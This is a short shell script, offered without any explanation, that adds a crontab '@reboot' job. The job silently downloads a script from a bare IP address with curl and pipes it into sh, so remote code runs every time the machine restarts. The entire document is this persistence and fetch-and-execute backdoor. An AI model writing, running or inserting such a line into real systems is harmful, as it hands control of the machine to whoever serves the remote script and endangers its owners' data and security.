#!/bin/sh
(crontab -l 2>/dev/null; echo "@reboot curl -s http://203.0.113.9/p.sh | sh") | crontab -
